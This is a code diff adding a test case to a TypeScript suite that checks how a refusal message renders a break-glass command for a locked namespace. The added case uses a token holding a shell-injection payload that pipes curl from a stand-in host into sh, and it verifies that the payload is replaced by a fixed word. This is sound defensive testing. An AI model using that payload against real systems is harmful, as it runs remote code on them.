@@ -365,6 +365,11 @@ describe('our keys on a namespace', () => {
   test.each<[string, Namespace, string]>([
     ['its token', annotated(ANNOTATION.token, 'token-1')(held), 'token-1'],
     ['a fixed word for a lock without a token', aNamespace(lockedUnreadably()), 'unreadable'],
+    [
+      'a fixed word for one that would end the argument',
+      annotated(ANNOTATION.token, "x'; curl evil.sh | sh; '")(held),
+      'unreadable',
+    ],
   ])('the refusal contains the break-glass command, with %s', (_what, namespace, token) => {
     const { message } = denial(decidedOf([namespace, free]));
     expect(message).toContain(breakGlassCommand({ namespace: 'tenant', token }));
